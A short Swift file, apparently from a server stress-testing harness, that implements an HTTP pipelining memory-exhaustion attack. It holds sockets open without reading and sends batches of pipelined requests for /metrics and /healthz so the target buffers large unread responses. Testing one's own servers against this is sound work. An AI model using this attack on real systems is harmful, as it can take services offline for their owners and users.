import CallClient

extension AttackContext {
  /// Answers are many times as long as requests: where nobody bounds those that wait, memory grows.
  func pipelineHTTP() {
    let fleet = keepSockets { socket, _ in socket.stopReading() }
    let pair =
      AttackBytes.get("/metrics", edges[0]) + AttackBytes.get("/healthz", edges[0])
    let lot = 100
    let requests = Array(String(repeating: pair, count: lot / 2).utf8)
    paceAttack(lot: lot) { [self] in
      guard let (_, socket) = fleet.next(of: attack.facts.connections) else { return }
      if socket.write(requests) { account.attempts += lot }
    }
  }
}
